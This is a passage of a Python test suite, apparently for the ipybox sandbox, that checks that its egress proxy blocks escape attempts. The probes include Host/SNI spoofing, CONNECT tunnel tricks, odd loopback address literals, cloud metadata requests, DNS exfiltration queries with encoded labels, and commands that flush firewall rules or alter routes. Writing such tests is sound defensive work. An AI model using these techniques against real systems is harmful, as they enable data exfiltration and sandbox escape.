"""Egress attacks (attack-catalog.md, Network) tried for real from inside sandboxes, against
test hosts in a network namespace this test builds (tests/lib/testhosts.py): allowed and
refused names and addresses over HTTP, HTTPS and raw TCP; SNI, Host and CONNECT games; odd
address literals; IPv6; UDP and ICMP; DNS exfiltration (checked at a counting resolver);
tampering with the sandbox's own network setup; host loopback and metadata addresses; the
connection cap; and pip through the proxy, across a reset."""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
from ipybox_test import IPYBOX, McpClient, SandboxCase, require_sandbox  # noqa: E402
import testhosts  # noqa: E402
from testhosts import A_V4, A_V6, B_V4, HOST_V4  # noqa: E402

HOSTS = None

# Client-side helpers run inside the sandbox before each probe body.
NET_PRELUDE = r'''
import ssl, urllib.request
CTX = ssl.create_default_context(cafile="/app/ca.pem")
def get(url, timeout=10):
    try:
        return urllib.request.urlopen(url, timeout=timeout, context=CTX if url.startswith("https") else None).read().decode()
    except urllib.error.HTTPError as e:
        return "HTTP %d %s" % (e.code, e.read().decode().strip())
    except Exception as e:
        return "ERR " + type(e).__name__
def raw(addr, port, data=b"", tls_name=None, family=socket.AF_INET, timeout=10, once=False):
    """Connects, sends data, reads to EOF (once: one read); returns what came back, or the error."""
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(timeout)
        s.connect((addr, port))
        if tls_name:
            s = CTX.wrap_socket(s, server_hostname=tls_name)
        s.sendall(data)
        out = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
            if once:
                break
        return out.decode(errors="replace")
    except socket.timeout:
        return "ERR timeout"
    except ssl.SSLError as e:
        return "ERR ssl " + (e.reason or "")
    except OSError as e:
        return "ERR " + err(e)
def body(resp):
    return resp.split("\r\n\r\n", 1)[-1]
'''


def setUpModule():
    global HOSTS
    why = testhosts.available()
    if why:
        raise unittest.SkipTest(why)
    HOSTS = testhosts.TestHosts(tempfile.mkdtemp(prefix="ipybox-egress-"))
    HOSTS.start()


def tearDownModule():
    if HOSTS:
        HOSTS.stop()
        shutil.rmtree(HOSTS.workdir, ignore_errors=True)


class EgressCase(SandboxCase):
    PRELUDE = SandboxCase.PRELUDE + NET_PRELUDE
    TMP_PREFIX = "ipybox-egress-"

    def setUp(self):
        super().setUp()
        shutil.copy(HOSTS.cert, os.path.join(self.ws, "ca.pem"))
        self.mark = len(HOSTS.entries())

    def run_probe(self, body, *options, expect_rc=0, timeout=120):
        """body in a sandbox with the given egress options; returns (result, stderr)."""
        cmd = HOSTS.wrap([IPYBOX, "run", *self.opts(*options), "--", "/usr/bin/python3", "-c", self.code(body)])
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout)
        return self.parse(r, expect_rc), r.stderr

    def seen(self, kind=None):
        """What the test hosts logged since this test began."""
        time.sleep(0.2)
        return [e for e in HOSTS.entries()[self.mark:] if kind is None or e["kind"] == kind]


class AllowedAndRefused(EgressCase):
    def test_allowed_name_http_https_and_tcp(self):
        out, _ = self.run_probe('''
            out["http"] = get("http://a.ipybox.test/")
            out["https"] = get("https://a.ipybox.test/")
            out["tcp"] = raw("a.ipybox.test", 7, once=True)
            out["v6"] = get("http://[%s]/")
        ''' % A_V6, "--allowed-domain", "a.ipybox.test", "--allowed-domain", A_V6)
        self.assertEqual(out, {"http": "host-a", "https": "host-a", "tcp": "host-a\n", "v6": "host-a"})

    def test_other_name_refused_on_every_port(self):
        out, err = self.run_probe('''
            try:
                socket.getaddrinfo("b.ipybox.test", 80)
                out["dns"] = "resolved"
            except socket.gaierror as e:
                out["dns"] = e.errno == socket.EAI_NONAME
            out["http"] = get("http://%(b)s/")
            out["https"] = raw("%(b)s", 443, b"", tls_name="b.ipybox.test")
            out["tcp7"] = raw("%(b)s", 7, once=True)
            out["tcp22"] = raw("%(b)s", 22, b"SSH-2.0-probe\\r\\n")
            out["host"] = body(raw("%(b)s", 80, b"GET / HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n"))
        ''' % {"b": B_V4}, "--allowed-domain", "a.ipybox.test")
        self.assertIs(out["dns"], True)
        self.assertTrue(out["http"].startswith("HTTP 403 ipybox:"), out["http"])
        for k in ("https", "tcp7", "tcp22"):
            self.assertNotIn("host-b", out[k], k)
        self.assertIn("ipybox:", out["host"])
        self.assertEqual([e for e in self.seen() if e.get("server") == "host-b"], [])
        self.assertIn("refused a connection to %s:80" % B_V4, err)

    def test_no_list_allows_public_addresses(self):
        out, _ = self.run_probe('''
            out["b"] = get("http://b.ipybox.test/")
            out["ip"] = raw("%s", 7, once=True)
        ''' % B_V4)
        self.assertEqual(out, {"b": "host-b", "ip": "host-b\n"})


class Deception(EgressCase):
    """The proxy goes where the name it checked resolves, never where the sandbox dialled."""

    def test_allowed_sni_sent_to_another_address(self):
        out, _ = self.run_probe('''
            out["r"] = body(raw("%s", 443, b"GET / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\nConnection: close\\r\\n\\r\\n",
                                 tls_name="a.ipybox.test"))
        ''' % B_V4, "--allowed-domain", "a.ipybox.test")
        self.assertEqual(out["r"], "host-a")
        self.assertEqual([e for e in self.seen() if e.get("server") == "host-b"], [])

    def test_allowed_host_header_sent_to_another_address(self):
        out, _ = self.run_probe('''
            out["r"] = body(raw("%s", 80, b"GET / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\nConnection: close\\r\\n\\r\\n"))
        ''' % B_V4, "--allowed-domain", "a.ipybox.test")
        self.assertEqual(out["r"], "host-a")
        self.assertEqual([e for e in self.seen() if e.get("server") == "host-b"], [])

    def test_duplicate_or_conflicting_host(self):
        out, _ = self.run_probe('''
            out["dup"] = raw("%(a)s", 80, b"GET / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["abs"] = raw("%(a)s", 80, b"GET http://b.ipybox.test/ HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\n\\r\\n")
        ''' % {"a": A_V4}, "--allowed-domain", "a.ipybox.test")
        for k in ("dup", "abs"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))
        self.assertEqual(self.seen("http"), [])

    def test_connect(self):
        req = "CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\nConnection: close\\r\\n\\r\\n"
        out, _ = self.run_probe('''
            # dialled: host B (not allowed); CONNECT names host A: the tunnel reaches A only
            out["ok"] = raw("%(b)s", 80, b"%(ok)s")
            # the same straight to the proxy, as a client honouring HTTPS_PROXY does
            out["direct"] = raw("127.0.0.1", 1023, b"%(ok)s")
            # plain HTTP straight to the proxy goes to the Host's port (80), not the proxy's
            out["direct_get"] = body(raw("127.0.0.1", 1023, b"GET / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\nConnection: close\\r\\n\\r\\n"))
            # an authority that is not allowed, behind an allowed Host header
            out["bad"] = raw("%(a)s", 80, b"%(bad)s")
            # Host and authority disagree
            out["mismatch"] = raw("%(a)s", 80, b"%(mismatch)s")
        ''' % {"a": A_V4, "b": B_V4, "ok": req % ("a.ipybox.test:80", "a.ipybox.test:80"),
               "bad": req % ("b.ipybox.test:80", "b.ipybox.test:80"),
               "mismatch": req % ("a.ipybox.test:80", "b.ipybox.test:80")},
            "--allowed-domain", "a.ipybox.test")
        for k in ("ok", "direct"):
            self.assertTrue(out[k].startswith("HTTP/1.1 200 Connection established"), "%s: %s" % (k, out[k]))
            self.assertTrue(out[k].endswith("host-a"), "%s: %s" % (k, out[k]))
        self.assertEqual(out["direct_get"], "host-a")
        for k in ("bad", "mismatch"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))
        self.assertEqual([e for e in self.seen() if e.get("server") == "host-b"], [])

    def test_odd_address_literals_judged_as_canonical(self):
        # 203.0.113.2 is allowed by address; loopback in odd forms never is. Sent to host B's
        # address (not allowed), so the proxy judges the Host header's literal.
        out, _ = self.run_probe('''
            for k, h in [("int", "3405803778"), ("short", "203.0.28930"), ("hex", "0xcb.0.0x71.2")]:
                out[k] = body(raw("%(b)s", 80, ("GET / HTTP/1.1\\r\\nHost: %%s\\r\\nConnection: close\\r\\n\\r\\n" %% h).encode()))
            for k, h in [("lo_short", "127.1"), ("lo_int", "2130706433"), ("lo_mapped", "[::ffff:127.0.0.1]"),
                         ("lo_v6", "[::1]"), ("meta", "169.254.169.254")]:
                out[k] = raw("%(b)s", 80, ("GET / HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n" %% h).encode())
        ''' % {"b": B_V4}, "--allowed-domain", A_V4)
        for k in ("int", "short", "hex"):
            self.assertEqual(out[k], "host-a", k)
        for k in ("lo_short", "lo_int", "lo_mapped", "lo_v6", "meta"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))


class NameDecides(EgressCase):
    """Issue 17, item 5: a connection that carries a name (TLS server name, HTTP Host, CONNECT
    authority, or those inside a CONNECT tunnel) is judged by that name, whatever address it
    was dialled at; the address decides only when no name is visible. Host A answers for any
    name (its certificate names a.ipybox.test and b.ipybox.test), like a shared CDN."""

    REQ = "GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n"

    def fronted(self):
        """Requests that reached a test host naming b.ipybox.test."""
        return [e for e in self.seen("http") if (e.get("host") or "").startswith("b.ipybox.test")]

    def test_other_name_at_the_address_the_stub_gave_for_an_allowed_name(self):
        out, err = self.run_probe('''
            addr = socket.getaddrinfo("a.ipybox.test", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
            out["addr"] = addr
            R = "%(req)s"
            out["tls_other"] = raw(addr, 443, (R %% "b.ipybox.test").encode(), tls_name="b.ipybox.test")
            out["tls_allowed"] = body(raw(addr, 443, (R %% "a.ipybox.test").encode(), tls_name="a.ipybox.test"))
            out["http_other"] = raw(addr, 80, (R %% "b.ipybox.test").encode())
            out["http_allowed"] = body(raw(addr, 80, (R %% "a.ipybox.test").encode()))
            out["http_absolute"] = raw(addr, 80, b"GET http://b.ipybox.test/ HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            # no name visible: the address the stub gave for the allowed name decides
            out["http10"] = body(raw(addr, 80, b"GET / HTTP/1.0\\r\\n\\r\\n"))
        ''' % {"req": self.REQ}, "--allowed-domain", "a.ipybox.test")
        self.assertEqual(out["addr"], A_V4)
        self.assertTrue(out["tls_other"].startswith("ERR"), out["tls_other"])
        self.assertEqual(out["tls_allowed"], "host-a")
        for k in ("http_other", "http_absolute"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))
            self.assertIn("ipybox: the name is not allowed", out[k])
        self.assertEqual(out["http_allowed"], "host-a")
        self.assertEqual(out["http10"], "host-a")
        self.assertEqual(self.fronted(), [])
        for port in (443, 80):
            self.assertIn("refused a connection to %s:%d for b.ipybox.test: the name is not allowed" % (A_V4, port),
                          err)

    def test_other_name_at_an_address_allowed_by_entry_or_pin(self):
        # An address entry allows host A's address; or --resolve pins both names to it.
        probe = '''
            R = "%(req)s"
            out["tls_other"] = raw("%(a)s", 443, (R %% "b.ipybox.test").encode(), tls_name="b.ipybox.test")
            out["http_other"] = raw("%(a)s", 80, (R %% "b.ipybox.test").encode())
            out["http_literal"] = body(raw("%(a)s", 80, (R %% "%(a)s").encode()))
            out["http10"] = body(raw("%(a)s", 80, b"GET / HTTP/1.0\\r\\n\\r\\n"))
            out["greeter"] = raw("%(a)s", 7, once=True)
        ''' % {"req": self.REQ, "a": A_V4}
        for opts in (("--allowed-domain", A_V4),
                     ("--allowed-domain", "a.ipybox.test", "--resolve", "a.ipybox.test:" + A_V4,
                      "--resolve", "b.ipybox.test:" + A_V4)):
            with self.subTest(opts=opts):
                self.mark = len(HOSTS.entries())
                out, err = self.run_probe(probe, *opts)
                self.assertTrue(out["tls_other"].startswith("ERR"), out["tls_other"])
                self.assertTrue(out["http_other"].startswith("HTTP/1.1 403"), out["http_other"])
                self.assertEqual(out["http10"], "host-a")
                self.assertEqual(out["greeter"], "host-a\n")  # server-first, no name: the address
                self.assertEqual(self.fronted(), [])
                self.assertIn("refused a connection to %s:443 for b.ipybox.test" % A_V4, err)
                self.assertIn("refused a connection to %s:80 for b.ipybox.test" % A_V4, err)
                if opts[1] == A_V4:
                    self.assertEqual(out["http_literal"], "host-a")

    def test_silence_or_empty_lines_buy_no_way_around_the_name(self):
        # A client that says nothing for a while looks like a server-first protocol (the
        # address alone opens the connection); what it sends later is still judged by the name
        # it carries. Empty lines before a request (which servers skip) hide nothing either.
        out, err = self.run_probe('''
            import time
            def late(addr, port, data, tls_name=None, pause=1.6, connect=None):
                try:
                    s = socket.create_connection((addr, port), timeout=10)
                    if connect:
                        s.sendall(("CONNECT %%s HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n" %% (connect, connect)).encode())
                        head = b""
                        while b"\\r\\n\\r\\n" not in head:
                            b = s.recv(1)
                            if not b:
                                return "ERR closed before the answer"
                            head += b
                    time.sleep(pause)
                    if tls_name:
                        s = CTX.wrap_socket(s, server_hostname=tls_name)
                    s.sendall(data)
                    got = b""
                    while True:
                        b = s.recv(65536)
                        if not b:
                            return got.decode(errors="replace")
                        got += b
                except ssl.SSLError as e:
                    return "ERR ssl " + (e.reason or "")
                except OSError as e:
                    return "ERR " + err(e)
            addr = socket.getaddrinfo("a.ipybox.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
            R = "%(req)s"
            out["late_http_other"] = late(addr, 80, (R %% "b.ipybox.test").encode())
            out["late_http_allowed"] = body(late(addr, 80, (R %% "a.ipybox.test").encode()))
            out["late_tls_other"] = late(addr, 443, (R %% "b.ipybox.test").encode(), tls_name="b.ipybox.test")
            out["late_tunnel_other"] = late("127.0.0.1", 1023, (R %% "b.ipybox.test").encode(),
                                            connect="a.ipybox.test:80")
            out["late_tunnel_allowed"] = body(late("127.0.0.1", 1023, (R %% "a.ipybox.test").encode(),
                                                   connect="a.ipybox.test:80"))
            out["crlf_other"] = raw(addr, 80, ("\\r\\n\\r\\n" + R %% "b.ipybox.test").encode())
            out["crlf_allowed"] = raw(addr, 80, ("\\r\\n" + R %% "a.ipybox.test").encode())
            out["greeter"] = raw(addr, 7, once=True)
        ''' % {"req": self.REQ}, "--allowed-domain", "a.ipybox.test")
        for k in ("late_http_other", "late_tunnel_other", "crlf_other"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))
        self.assertTrue(out["late_tls_other"].startswith("ERR"), out["late_tls_other"])
        for k in ("late_http_allowed", "late_tunnel_allowed"):
            self.assertEqual(out[k], "host-a", k)
        # passed on to host A (whose server may or may not skip the empty line)
        self.assertFalse(out["crlf_allowed"].startswith("HTTP/1.1 403"), out["crlf_allowed"])
        self.assertTrue([e for e in self.seen("http") if (e.get("host") or "").startswith("a.ipybox.test")] or
                        out["crlf_allowed"].startswith("HTTP/1."), out["crlf_allowed"])
        self.assertEqual(out["greeter"], "host-a\n")  # server-first, no name: the address
        self.assertEqual(self.fronted(), [])
        self.assertIn("sent after a silent start, b.ipybox.test: the name is not allowed", err)

    def test_forms_servers_accept_are_judged_too(self):
        # Requests a server takes that a strict reader might call "no name": bare-LF lines,
        # an unfinished head at the end of input, other methods (however long), lower case,
        # leading blanks, other whitespace for a space (Python's http.server splits at any).
        out, err = self.run_probe('''
            def half(addr, port, data, connect=None):
                try:
                    s = socket.create_connection((addr, port), timeout=10)
                    if connect:
                        s.sendall(("CONNECT %%s HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n" %% (connect, connect)).encode())
                        head = b""
                        while b"\\r\\n\\r\\n" not in head:
                            b = s.recv(1)
                            if not b:
                                return "ERR closed before the answer"
                            head += b
                    s.sendall(data)
                    s.shutdown(socket.SHUT_WR)
                    got = b""
                    while True:
                        b = s.recv(65536)
                        if not b:
                            return got.decode(errors="replace")
                        got += b
                except OSError as e:
                    return "ERR " + err(e)
            addr = socket.getaddrinfo("a.ipybox.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
            out["lf"] = half(addr, 80, b"GET /lf HTTP/1.1\\nHost: b.ipybox.test\\n\\n")
            out["mixed"] = half(addr, 80, b"GET /mixed HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\n")
            out["unfinished"] = half(addr, 80, b"GET /unf HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n")
            out["propfind"] = raw(addr, 80, b"PROPFIND /pf HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["lower"] = raw(addr, 80, b"get /lower HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["space"] = raw(addr, 80, b" GET /sp HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["tab"] = raw(addr, 80, b"\\tGET /tab HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["long_method"] = raw(addr, 80, b"X" * 40 + b" /long HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["tab_sep"] = raw(addr, 80, b"GET\\t/tabsep\\tHTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["nbsp_sep"] = raw(addr, 80, b"GET\\xa0/nbsp HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["vt_lead"] = raw(addr, 80, b"\\x0bGET /vt HTTP/1.1\\r\\nHost: b.ipybox.test\\r\\n\\r\\n")
            out["tunnel_lf"] = half("127.0.0.1", 1023, b"GET /tunlf HTTP/1.1\\nHost: b.ipybox.test\\n\\n",
                                    connect="a.ipybox.test:80")
            out["allowed_lower"] = body(raw(addr, 80, b"get / HTTP/1.1\\r\\nHost: a.ipybox.test\\r\\n\\r\\n"))
        ''' % {}, "--allowed-domain", "a.ipybox.test")
        for k in ("lf", "mixed", "unfinished", "propfind", "lower", "space", "tab", "long_method", "tab_sep",
                  "nbsp_sep", "vt_lead", "tunnel_lf"):
            with self.subTest(form=k):
                self.assertFalse("host-a" in out[k] or out[k].startswith(("HTTP/1.0 2", "HTTP/1.0 4", "HTTP/1.0 5")),
                                 "%s reached host A: %s" % (k, out[k]))
        self.assertEqual(self.fronted(), [])
        self.assertNotIn("ERR", out["allowed_lower"])

    def test_connect_tunnel_carries_only_allowed_names(self):
        out, err = self.run_probe('''
            def tunnel(authority, sni, host):
                try:
                    s = socket.create_connection(("127.0.0.1", 1023), timeout=10)
                    s.sendall(("CONNECT %%s HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n" %% (authority, authority)).encode())
                    head = b""
                    while b"\\r\\n\\r\\n" not in head:
                        b = s.recv(1)
                        if not b:
                            return "ERR closed before the answer"
                        head += b
                    if not head.startswith(b"HTTP/1.1 200"):
                        return head.decode()
                    if sni:
                        s = CTX.wrap_socket(s, server_hostname=sni)
                    s.sendall(("%(req)s" %% host).encode())
                    data = b""
                    while True:
                        b = s.recv(65536)
                        if not b:
                            break
                        data += b
                    return data.decode(errors="replace")
                except ssl.SSLError as e:
                    return "ERR ssl " + (e.reason or type(e).__name__)
                except OSError as e:
                    return "ERR " + err(e)
            out["tls_other"] = tunnel("a.ipybox.test:443", "b.ipybox.test", "b.ipybox.test")
            out["tls_allowed"] = body(tunnel("a.ipybox.test:443", "a.ipybox.test", "a.ipybox.test"))
            out["http_other"] = tunnel("a.ipybox.test:80", None, "b.ipybox.test")
            out["http_allowed"] = body(tunnel("a.ipybox.test:80", None, "a.ipybox.test"))
        ''' % {"req": self.REQ}, "--allowed-domain", "a.ipybox.test")
        self.assertTrue(out["tls_other"].startswith("ERR"), out["tls_other"])
        self.assertEqual(out["tls_allowed"], "host-a")
        self.assertTrue(out["http_other"].startswith("HTTP/1.1 403"), out["http_other"])
        self.assertEqual(out["http_allowed"], "host-a")
        self.assertEqual(self.fronted(), [])
        self.assertIn("for a.ipybox.test: the TLS server name inside the CONNECT tunnel, b.ipybox.test: "
                      "the name is not allowed", err)
        self.assertIn("for a.ipybox.test: the Host inside the CONNECT tunnel, b.ipybox.test: "
                      "the name is not allowed", err)

    def test_embedded_ipv4_of_the_hosts_own_address(self):
        # NAT64 and 6to4 forms of the host's own 203.0.113.1: dialled with no list (any public
        # address allowed), and dialled or named in a Host with entries for the whole NAT64 and
        # 6to4 blocks (which name no host address exactly). Blackhole routes make sure that a
        # proxy which does try them sends nothing anywhere.
        forms = {"nat64": "64:ff9b::cb00:7101", "6to4": "2002:cb00:7101::1"}
        probe = '''
            WITH_HOST = @WITH_HOST@
            for k, a in %r.items():
                out[k] = raw(a, 7, b"GET / HTTP/1.0\\r\\n\\r\\n", family=socket.AF_INET6)
                if WITH_HOST:
                    out[k + "_host"] = raw("%s", 80, ("GET / HTTP/1.1\\r\\nHost: [%%s]\\r\\n\\r\\n" %% a).encode())
        ''' % (forms, B_V4)
        added = []
        try:
            for a in forms.values():
                r = subprocess.run(["ip", "-6", "route", "add", "blackhole", a + "/128"], capture_output=True, text=True)
                if r.returncode != 0:
                    self.skipTest("cannot add a blackhole route for %s: %s" % (a, r.stderr.strip()))
                added.append(a)
            runs = [(False, ()), (True, ("--allowed-domain", "64:ff9b::/96", "--allowed-domain", "2002::/16"))]
            results = [(self.run_probe(probe.replace("@WITH_HOST@", repr(w)), *opts), w) for w, opts in runs]
        finally:
            for a in added:
                subprocess.run(["ip", "-6", "route", "del", "blackhole", a + "/128"], capture_output=True)
        for (out, err), with_host in results:
            for k, a in forms.items():
                for kk in (k, k + "_host") if with_host else (k,):
                    self.assertTrue(out[kk].startswith("HTTP/1.1 403"), "%s: %s" % (kk, out[kk]))
                    self.assertIn("carries one of the host's own IPv4 addresses", out[kk])
                self.assertIn("refused a connection to [%s]:7" % a, err)

class OtherProtocols(EgressCase):
    def test_udp_and_icmp_do_not_leave(self):
        out, _ = self.run_probe('''
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out["udp"] = attempt(u.sendto, b"leak", ("%(a)s", 9))
            u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            out["udp6"] = attempt(u6.sendto, b"leak", ("%(a6)s", 9))
            try:
                p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
                out["ping"] = attempt(p.sendto, b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("%(a)s", 0))
            except OSError as e:
                out["ping"] = err(e)
            try:
                socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
                out["raw"] = "ok"
            except OSError as e:
                out["raw"] = err(e)
        ''' % {"a": A_V4, "a6": A_V6}, "--allowed-domain", A_V4)
        self.assertEqual(out["udp"], "EPERM")
        self.assertEqual(out["udp6"], "EPERM")
        self.assertNotEqual(out["ping"], "ok")
        self.assertNotEqual(out["raw"], "ok")
        self.assertEqual(self.seen("udp"), [])

    def test_dns_for_a_refused_name_never_goes_upstream(self):
        out, err = self.run_probe('''
            try:
                socket.getaddrinfo("c2VjcmV0.b.ipybox.test", 443)
                out["gai"] = "resolved"
            except socket.gaierror as e:
                out["gai"] = e.errno == socket.EAI_NONAME
            # straight to a hard-coded resolver, over UDP and TCP
            q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + \\
                b"\\x07exfil42\\x01b\\x06ipybox\\x04test\\x00\\x00\\x01\\x00\\x01"
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(5)
            u.sendto(q, ("8.8.8.8", 53))
            a = u.recv(512)
            out["udp_rcode"] = a[3] & 15
            t = socket.create_connection(("9.9.9.9", 53), timeout=5)
            t.sendall(len(q).to_bytes(2, "big") + q)
            a = t.recv(514)
            out["tcp_rcode"] = a[5] & 15
            # an allowed name is resolved (the resolver sees it: the control)
            out["allowed"] = socket.getaddrinfo("a.ipybox.test", 80, socket.AF_INET)[0][4][0]
        ''', "--allowed-domain", "a.ipybox.test")
        self.assertEqual(out, {"gai": True, "udp_rcode": 3, "tcp_rcode": 3, "allowed": A_V4})
        names = [e["name"] for e in self.seen("dns")]
        self.assertIn("a.ipybox.test", names)
        self.assertEqual([n for n in names if "b.ipybox.test" in n], [])
        self.assertIn("nothing sent upstream", err)


class Tampering(EgressCase):
    def test_network_setup_cannot_be_changed(self):
        out, _ = self.run_probe('''
            import subprocess
            def rc(*cmd):
                try:
                    return subprocess.run(cmd, capture_output=True).returncode
                except FileNotFoundError:
                    return "missing"
            out["nft_flush"] = rc("/usr/sbin/nft", "flush", "ruleset")
            out["nft_list"] = rc("/usr/sbin/nft", "list", "ruleset")
            out["route_del"] = rc("ip", "route", "del", "local", "default", "dev", "lo", "table", "local")
            out["route_add"] = rc("ip", "route", "add", "203.0.113.0/24", "dev", "lo")
            out["link"] = rc("ip", "link", "add", "x0", "type", "dummy")
            out["sysctl"] = attempt(lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"))
            out["unshare_net"] = sc(272, 0x40000000)  # unshare(CLONE_NEWNET)
            out["after"] = raw("%s", 7, once=True)
        ''' % B_V4, "--allowed-domain", "a.ipybox.test")
        for k in ("nft_flush", "route_del", "route_add", "link"):
            # The tools must be there (scripts/deps.sh test installs them) and must fail.
            self.assertIsInstance(out[k], int, "%s: %s" % (k, out[k]))
            self.assertNotEqual(out[k], 0, k)
        self.assertNotEqual(out["sysctl"], "ok")
        self.assertNotEqual(out["unshare_net"], "ok")
        self.assertNotIn("host-b", out["after"])

    def test_host_loopback_metadata_and_own_addresses(self):
        # A server on the host's loopback that nothing in a sandbox may reach.
        ls = socket.socket()
        ls.bind(("127.0.0.1", 0))
        ls.listen(16)
        port = ls.getsockname()[1]
        hits = []
        def acc():
            ls.settimeout(30)
            try:
                while True:
                    c, _ = ls.accept()
                    hits.append(1)
                    c.close()
            except OSError:
                pass
        threading.Thread(target=acc, daemon=True).start()
        try:
            out, _ = self.run_probe('''
                P = %(port)d
                out["loop_name"] = raw("%(a)s", P, ("GET / HTTP/1.1\\r\\nHost: loop.ipybox.test:%%d\\r\\n\\r\\n" %% P).encode())
                out["meta_name"] = raw("%(a)s", 80, b"GET / HTTP/1.1\\r\\nHost: meta.ipybox.test\\r\\n\\r\\n")
                out["meta_google"] = raw("%(a)s", 80, b"GET / HTTP/1.1\\r\\nHost: metadata.google.internal\\r\\n\\r\\n")
                out["meta_ip"] = raw("169.254.169.254", 80, b"GET / HTTP/1.0\\r\\n\\r\\n")
                out["host_own"] = raw("%(h)s", P, once=True)
                out["host_name"] = raw("%(a)s", 80, b"GET / HTTP/1.1\\r\\nHost: host.ipybox.test\\r\\n\\r\\n")
                try:
                    out["loop_dns"] = socket.getaddrinfo("loop.ipybox.test", 80, socket.AF_INET)
                except socket.gaierror:
                    out["loop_dns"] = "none"
            ''' % {"a": A_V4, "h": HOST_V4, "port": port}, "--allowed-domain", "*.ipybox.test")
        finally:
            ls.close()
        for k in ("loop_name", "meta_name", "meta_google", "host_name"):
            self.assertTrue(out[k].startswith("HTTP/1.1 403"), "%s: %s" % (k, out[k]))
        self.assertTrue(out["meta_ip"].startswith("HTTP/1.1 403"), out["meta_ip"])
        self.assertNotEqual(out["host_own"][:3], "HTT")
        self.assertEqual(out["loop_dns"], "none")
        self.assertEqual(hits, [])


class Limits(EgressCase):
    def test_connection_cap_does_not_hurt_another_sandbox(self):
        hog = subprocess.Popen(HOSTS.wrap([IPYBOX, "run", *self.opts("--max-connections", "100"), "--",
                                           "/usr/bin/python3", "-c", self.code('''
            held, refused = [], 0
            for i in range(3000):
                try:
                    s = socket.create_connection(("%s", 7), timeout=5)
                    s.settimeout(5)
                    if s.recv(16):
                        held.append(s)
                    else:
                        refused += 1
                except OSError:
                    refused += 1
            out["held"], out["refused"] = len(held), refused
            print(json.dumps(out), flush=True)
            sys.stdin.read()
        ''' % A_V4, epilogue=False)]), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True)
        try:
            line = hog.stdout.readline()
            self.assertTrue(line, hog.stderr.read() if hog.poll() is not None else "no output")
            got = json.loads(line)
            self.assertEqual(got["held"], 100)
            self.assertEqual(got["refused"], 2900)
            # While the first sandbox holds its 100, another one works normally.
            out, _ = self.run_probe('out["r"] = get("http://a.ipybox.test/")')
            self.assertEqual(out["r"], "host-a")
        finally:
            hog.stdin.close()
            try:
                hog.wait(timeout=60)
            except subprocess.TimeoutExpired:
                hog.kill()
                hog.wait()


class Relay(EgressCase):
    def test_sandbox_side_of_a_relay_does_not_pace(self):
        """The proxy's loopback socket in the sandbox uses reno, not the host's (possibly pacing)
        congestion control: with BBR it halved bulk throughput (bench/egress.md)."""
        marker = "ipybox-relay-probe-%d" % os.getpid()
        held = subprocess.Popen(HOSTS.wrap([IPYBOX, "run", *self.opts(), "--", "/usr/bin/python3", "-c",
                                            self.code('''
            # %s
            s = socket.create_connection(("%s", 7), timeout=5)
            out["greeting"] = s.recv(16).decode()
            print(json.dumps(out), flush=True)
            sys.stdin.read()
        ''' % (marker, A_V4), epilogue=False)]), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, text=True)
        try:
            line = held.stdout.readline()
            self.assertTrue(line, held.stderr.read() if held.poll() is not None else "no output")
            self.assertEqual(json.loads(line)["greeting"], "host-a\n")
            here = os.readlink("/proc/self/ns/net")
            pids = [d for d in os.listdir("/proc") if d.isdigit() and marker.encode() in _cmdline(d)
                    and _netns(d) not in (None, here)]
            self.assertTrue(pids, "the sandboxed client is not in /proc")
